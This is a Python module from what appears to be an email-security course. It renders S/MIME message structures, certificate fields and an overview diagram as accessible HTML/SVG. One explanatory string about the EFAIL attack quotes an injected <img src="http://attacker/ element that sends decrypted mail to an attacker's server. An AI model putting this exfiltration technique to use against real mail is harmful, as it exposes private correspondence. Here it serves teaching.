"""HTML and SVG for chapter 05: S/MIME messages, their MIME tree and CMS structure, certificates.

All inline HTML/SVG. Trees are nested lists (a screen reader reads them as such); the diagram has a
``<title>`` and an ``aria-label``; every verdict carries a symbol and a word, not only a colour.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterable, Sequence

from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa

from mailsec.i18n import texts
from mailsec.pki.validate import CertificateCheck, certificate_addresses, describe_name
from mailsec.render.html import (
    FONT,
    MONO,
    OUTCOME_COLOURS,
    TABLE_STYLE,
    Fragment,
    badge,
    callout,
    code_block,
    data,
    escape,
    kv_table,
    table,
    td,
    th,
)
from mailsec.smime.inspect import TEXT as PARTS
from mailsec.smime.inspect import CmsNode, DataText, MimeNode
from mailsec.trace import Outcome

__all__ = [
    "certificate_fields",
    "certificate_html",
    "cms_tree_html",
    "mime_tree_html",
    "plain_client_html",
    "raw_message_html",
    "smime_client_html",
    "smime_diagram",
]

_BOX = "border:1px solid #c8d1dc;border-radius:6px;padding:8px 12px;margin:6px 0;"
_FIELD_NAME = "padding:3px 8px;color:#444;font-weight:600;vertical-align:top"

TEXT = texts(
    {
        "mime_item": "{meaning}; {size} bytes",
        "mime_label": "MIME structure of the message",
        "cms_label": "CMS structure inside the message",
        "travels": "The message as it travels ({size} bytes):",
        "raw": "The raw message",
        "no_text": "(no text it can show)",
        "plain_label": "A mail program without S/MIME support",
        "plain_title": "Mail program without S/MIME",
        "attachment": "Attachment: {name} — it cannot open it.",
        "not_shown": "No text is shown.",
        "no_text_part": "(the message has no text part to show)",
        "smime_label": "Bob's mail program with S/MIME",
        "smime_title": "Bob's mail program (with S/MIME)",
        "rsa_key": "RSA {bits}-bit",
        "ec_key": "EC {curve} ({bits}-bit)",
        "none": "(none)",
        "fields": (
            "Subject (who)",
            "Email addresses (subjectAltName)",
            "Issuer (who vouches)",
            "Valid",
            "Public key",
            "Key usage",
            "Extended key usage",
            "Is a CA",
            "Serial number",
            "SHA-256 fingerprint",
        ),
        "validity": "{start} to {end} UTC",
        "yes": "yes",
        "no": "no",
        "viewer": "Certificate viewer",
        "verdict": "Verdict for S/MIME: {verdict}",
        "fields_caption": "Certificate fields",
        "detected": "Bob's program refuses the message: the AES-GCM tag does not match, so the "
        "attacker's change is detected and <strong>no text at all</strong> is shown — nothing to "
        "exfiltrate.",
        "detected_title": "Change detected",
        "not_detected": "Bob's program decrypts the message <strong>without noticing</strong>: "
        "AES-CBC has no integrity check. The first 16 bytes are now the attacker's. In the real "
        'EFAIL attack they open an HTML <code>&lt;img src="http://attacker/</code> element, so '
        "the mail program itself sends the decrypted text that follows to the attacker's server.",
        "not_detected_title": "Change not detected",
        "decrypts": "What Bob's program decrypts (start):",
        "after_attack": "Decrypted text after the attack",
        "facts": (
            "Content encryption",
            "The attacker guessed the start",
            "and wants it to read",
            "Attacker needs the key?",
            "Integrity check",
        ),
        "gcm_check": "yes (AES-GCM tag)",
        "cbc_check": "none (AES-CBC)",
        "diagram_desc": "S/MIME overview. The course root CA signs Alice's and Bob's "
        "certificates. Alice signs the message with her private key and attaches her "
        "certificate. The signed message is encrypted with a random content key (AES), and the "
        "content key is encrypted with Bob's public key from Bob's certificate. The header "
        "fields From, To and Subject stay readable. Bob decrypts the content key with his "
        "private key, decrypts the message, and checks Alice's signature with the certificate "
        "that came with it, which chains to the CA he trusts.",
        "root_ca": ("Course root CA", "(Bob's program trusts it)"),
        "alice": ("Alice", "private key + certificate", "(alice@example.org)"),
        "bob": ("Bob", "private key + certificate", "(bob@example.net)"),
        "signs_alice": "signs Alice's certificate",
        "signs_bob": "signs Bob's certificate",
        "on_its_way": (
            "The mail on its way",
            "From / To / Subject: readable by anyone",
            "smime.p7m (AuthEnvelopedData):",
            "• the content key, locked with Bob's public key",
            "• AES-GCM(text + Alice's signature",
            "and her certificate)",
        ),
        "sign_encrypt": "1. sign, 2. encrypt",
        "decrypt_verify": "3. decrypt, 4. verify",
        "recipients": ("Recipient", "Key", "How the content key reaches them"),
    }
)
"""Chapter 05's pictures and tables in words (see :mod:`mailsec.i18n`)."""


_Data = DataText
"""A field's value that is data (a name from a certificate, a number, an identifier): shown as
code, never translated."""


def _tree(items: str, label: str) -> str:
    return (
        f'<ul role="tree" aria-label="{escape(label)}" '
        f'style="{FONT}list-style:none;padding-left:0;margin:4px 0">{items}</ul>'
    )


def _subtree(items: str) -> str:
    """A tree item's children, indented under it with a line ("" when it has none)."""
    if not items:
        return ""
    return (
        f'<ul role="group" style="list-style:none;padding-left:22px;'
        f'border-left:2px solid #c8d1dc;margin:2px 0 2px 6px">{items}</ul>'
    )


def mime_tree_html(node: MimeNode) -> Fragment:
    """The MIME tree as a nested list: type, size, file name and what the part is."""

    def item(n: MimeNode, depth: int) -> str:
        name = f" <em><code>({escape(n.filename)})</code></em>" if n.filename else ""
        children = "".join(item(c, depth + 1) for c in n.children)
        nested = _subtree(children)
        about = TEXT["mime_item"].format(meaning=n.meaning, size=f"{n.size:,}")
        return (
            f'<li role="treeitem" style="margin:3px 0">'
            f'<code style="{MONO}font-weight:600">{escape(n.content_type)}</code>{name} '
            f'<span style="color:#444">— {escape(about)}</span>{nested}</li>'
        )

    return Fragment(_tree(item(node, 0), TEXT["mime_label"]))


def cms_tree_html(node: CmsNode) -> Fragment:
    """The CMS structure as a nested list with the RFC section of each element."""

    def item(n: CmsNode) -> str:
        cite = (
            f' <span style="color:#555;font-size:12px">[{escape(n.section)}]</span>'
            if n.section
            else ""
        )
        shown = data(n.detail) if isinstance(n.detail, DataText) else escape(n.detail)
        detail = f' <span style="color:#333">— {shown}</span>' if n.detail else ""
        children = "".join(item(c) for c in n.children)
        nested = _subtree(children)
        return (
            f'<li role="treeitem" style="margin:3px 0"><code style="{MONO}font-weight:600">'
            f"{escape(n.label)}</code>{detail}{cite}{nested}</li>"
        )

    return Fragment(_tree(item(node), TEXT["cms_label"]))


def raw_message_html(message: bytes, *, max_lines: int = 40) -> Fragment:
    """The message as it travels (text, shortened), with the size."""
    text = message.decode("utf-8", "replace").replace("\r\n", "\n")
    return Fragment(
        f'<div style="{FONT}">{escape(TEXT["travels"].format(size=f"{len(message):,}"))}</div>'
        + code_block(text, label=TEXT["raw"], max_lines=max_lines)
    )


def plain_client_html(rows: Sequence[tuple[str, str]], *, body_text: str | None) -> Fragment:
    """A mail window of a program without S/MIME: header fields, text if any, an attachment."""
    ours = (PARTS["shows_as_text"], PARTS["attachments"])
    head = _header_table([(k, v) for k, v in rows if k not in ours])
    attachments = dict(rows).get(PARTS["attachments"], TEXT["none"])
    body = (
        f'<pre style="{MONO}white-space:pre-wrap;margin:6px 0">{escape(body_text)}</pre>'
        if body_text
        else f'<p style="margin:6px 0;color:#444"><em>{escape(TEXT["no_text"])}</em></p>'
    )
    name = f'<code style="{MONO}">{escape(attachments)}</code>'
    return Fragment(
        f'<div role="group" aria-label="{escape(TEXT["plain_label"])}" '
        f'style="{FONT}{_BOX}background:#fafafa"><div style="font-weight:600;margin-bottom:4px">'
        f"{escape(TEXT['plain_title'])}</div>{head}{body}"
        f'<div style="margin-top:4px">{TEXT["attachment"].format(name=name)}</div></div>'
    )


def _header_table(rows: Sequence[tuple[str, str]]) -> Fragment:
    """Header fields as a mail program lists them: names and values as sent (code)."""
    return Fragment(
        f'<table style="{TABLE_STYLE}"><tbody>'
        + "".join(
            "<tr>"
            + th(data(k), scope="row", style=_FIELD_NAME)
            + td(data(v), style=f"padding:3px 8px;{MONO}")
            + "</tr>"
            for k, v in rows
        )
        + "</tbody></table>"
    )


def smime_client_html(
    *,
    headers: Sequence[tuple[str, str]],
    body_text: str | None,
    marks: Iterable[tuple[Outcome, str]],
    refused: str | None = None,
) -> Fragment:
    """Bob's S/MIME mail program: header fields, the verdict marks, and the text (or why not)."""
    badges = " ".join(badge(outcome, text) for outcome, text in marks)
    if body_text is not None:
        body = f'<pre style="{MONO}white-space:pre-wrap;margin:6px 0">{escape(body_text)}</pre>'
    elif refused is not None:
        body = (
            f'<p style="margin:6px 0"><strong>{escape(TEXT["not_shown"])}</strong> '
            f"{escape(refused)}</p>"
        )
    else:
        body = f'<p style="margin:6px 0"><em>{escape(TEXT["no_text_part"])}</em></p>'

    return Fragment(
        f'<div role="group" aria-label="{escape(TEXT["smime_label"])}" style="{FONT}{_BOX}">'
        f'<div style="font-weight:600;margin-bottom:4px">{escape(TEXT["smime_title"])}</div>'
        f"{_header_table(headers)}"
        f'<div style="margin:6px 0" aria-live="polite">{badges}</div>{body}</div>'
    )


def _key_text(cert: x509.Certificate) -> str:
    key = cert.public_key()
    if isinstance(key, rsa.RSAPublicKey):
        return TEXT["rsa_key"].format(bits=key.key_size)
    if isinstance(key, ec.EllipticCurvePublicKey):
        return TEXT["ec_key"].format(curve=key.curve.name, bits=key.key_size)
    return type(key).__name__


def _extension(cert: x509.Certificate, kind: type) -> object | None:
    try:
        return cert.extensions.get_extension_for_class(kind).value
    except x509.ExtensionNotFound:
        return None


def certificate_fields(cert: x509.Certificate) -> list[tuple[str, str]]:
    """The fields a learner should look at, as (name, value) text; a value that is data (a
    name, an identifier, a number) is a :class:`_Data` string, which the viewer shows as code."""
    usage = _extension(cert, x509.KeyUsage)
    usages = []
    if isinstance(usage, x509.KeyUsage):
        for attr, word in (
            ("digital_signature", "digitalSignature"),
            ("key_encipherment", "keyEncipherment"),
            ("key_agreement", "keyAgreement"),
            ("key_cert_sign", "keyCertSign"),
            ("crl_sign", "cRLSign"),
        ):
            if getattr(usage, attr):
                usages.append(word)
    eku = _extension(cert, x509.ExtendedKeyUsage)
    eku_text = (
        _Data(", ".join(getattr(oid, "_name", oid.dotted_string) for oid in eku))
        if isinstance(eku, x509.ExtendedKeyUsage)
        else TEXT["none"]
    )
    basic = _extension(cert, x509.BasicConstraints)
    fingerprint = hashlib.sha256(cert.public_bytes(serialization.Encoding.DER)).hexdigest()
    addresses = ", ".join(certificate_addresses(cert))
    values = [
        _Data(describe_name(cert.subject)),
        _Data(addresses) if addresses else TEXT["none"],
        _Data(describe_name(cert.issuer)),
        TEXT["validity"].format(
            start=f"{cert.not_valid_before_utc:%Y-%m-%d %H:%M}",
            end=f"{cert.not_valid_after_utc:%Y-%m-%d %H:%M}",
        ),
        _key_text(cert),
        _Data(", ".join(usages)) if usages else TEXT["none"],
        eku_text,
        TEXT["yes" if isinstance(basic, x509.BasicConstraints) and basic.ca else "no"],
        _Data(f"{cert.serial_number:x}"),
        _Data(fingerprint[:32] + "…"),
    ]
    return list(zip(TEXT["fields"], values, strict=True))


def certificate_html(check: CertificateCheck) -> Fragment:
    """A certificate viewer: the verdict with a word, then the fields."""
    outcome = Outcome.OK if check.valid else Outcome.FAIL
    verdict = f"{badge(outcome, check.status.description)}"
    fields = [
        (name, data(value) if isinstance(value, _Data) else value)
        for name, value in certificate_fields(check.certificate)
    ]
    return Fragment(
        f'<div style="{FONT}{_BOX}" role="group" aria-label="{escape(TEXT["viewer"])}">'
        f'<div style="margin-bottom:6px">{TEXT["verdict"].format(verdict=verdict)}</div>'
        f"{kv_table(fields, caption=TEXT['fields_caption'])}</div>"
    )


def efail_html(
    *,
    cipher_text: str,
    original_start: str,
    injected: str,
    result_text: str | None,
    authenticated: bool,
) -> Fragment:
    """The EFAIL outcome: what the attacker did, and what Bob's program would show."""
    if result_text is None:
        outcome = callout(TEXT["detected"], outcome=Outcome.OK, title=TEXT["detected_title"])
        shown = ""
    else:
        outcome = callout(
            TEXT["not_detected"], outcome=Outcome.FAIL, title=TEXT["not_detected_title"]
        )
        shown = f'<div style="{FONT}">{escape(TEXT["decrypts"])}</div>' + code_block(
            result_text, label=TEXT["after_attack"], max_lines=8
        )
    values = (
        cipher_text,
        data(original_start),
        data(injected),
        TEXT["no"],
        TEXT["gcm_check" if authenticated else "cbc_check"],
    )
    facts = kv_table(list(zip(TEXT["facts"], values, strict=True)))
    return Fragment(f'<div style="{FONT}">{facts}{outcome}{shown}</div>')


def smime_diagram() -> Fragment:
    """S/MIME in one picture: the CA vouches for keys; sign with Alice's, encrypt to Bob's."""
    desc = TEXT["diagram_desc"]
    ink = "#1f2d3d"

    def box(
        x: int, y: int, w: int, h: int, lines: Sequence[str], fill: str, dashed: bool = False
    ) -> str:
        dash = ' stroke-dasharray="5 3"' if dashed else ""
        text = "".join(
            f'<text x="{x + w / 2}" y="{y + 18 + i * 16}" text-anchor="middle" font-size="12.5" '
            f'fill="{ink}">{escape(line)}</text>'
            for i, line in enumerate(lines)
        )
        return (
            f'<rect x="{x}" y="{y}" width="{w}" height="{h}" rx="6" fill="{fill}" '
            f'stroke="{ink}"{dash}/>{text}'
        )

    def arrow(
        x1: float, y1: float, x2: float, y2: float, label: str = "", dy: int = -6, dx: int = 0
    ) -> str:
        mid_x, mid_y = (x1 + x2) / 2 + dx, (y1 + y2) / 2
        tag = (
            f'<text x="{mid_x}" y="{mid_y + dy}" text-anchor="middle" font-size="11.5" '
            f'fill="{ink}">{escape(label)}</text>'
            if label
            else ""
        )
        return (
            f'<line x1="{x1}" y1="{y1}" x2="{x2}" y2="{y2}" stroke="{ink}" stroke-width="1.5" '
            f'marker-end="url(#smime-arrow)"/>{tag}'
        )

    ok_bg = OUTCOME_COLOURS[Outcome.OK][0]
    info_bg = OUTCOME_COLOURS[Outcome.INFO][0]
    warn_bg = OUTCOME_COLOURS[Outcome.WARN][0]
    parts = [
        box(300, 10, 200, 40, TEXT["root_ca"], warn_bg),
        box(20, 90, 180, 56, TEXT["alice"], info_bg),
        box(600, 90, 180, 56, TEXT["bob"], info_bg),
        arrow(330, 50, 150, 90, TEXT["signs_alice"], -2),
        arrow(470, 50, 650, 90, TEXT["signs_bob"], -2),
        box(220, 170, 350, 130, TEXT["on_its_way"], ok_bg, dashed=True),
        arrow(110, 146, 220, 200, TEXT["sign_encrypt"], 22, -45),
        arrow(570, 235, 690, 146, TEXT["decrypt_verify"], 30, 40),
    ]
    return Fragment(
        f'<figure style="margin:6px 0"><svg xmlns="http://www.w3.org/2000/svg" role="img" '
        f'aria-label="{escape(desc)}" viewBox="0 0 800 310" width="800" height="310" '
        f'style="max-width:100%;height:auto;{FONT}"><title>{escape(desc)}</title>'
        f'<defs><marker id="smime-arrow" viewBox="0 0 10 10" refX="9" refY="5" markerWidth="7" '
        f'markerHeight="7" orient="auto"><path d="M0,0 L10,5 L0,10 z" fill="{ink}"/></marker></defs>'
        + "".join(parts)
        + f'</svg><figcaption style="{FONT}color:#444">{escape(desc)}</figcaption></figure>'
    )


def recipients_table(rows: Iterable[tuple[str, str, str]]) -> Fragment:
    """(who, key, how the content key reaches them) rows."""
    return Fragment(table(TEXT["recipients"], rows))
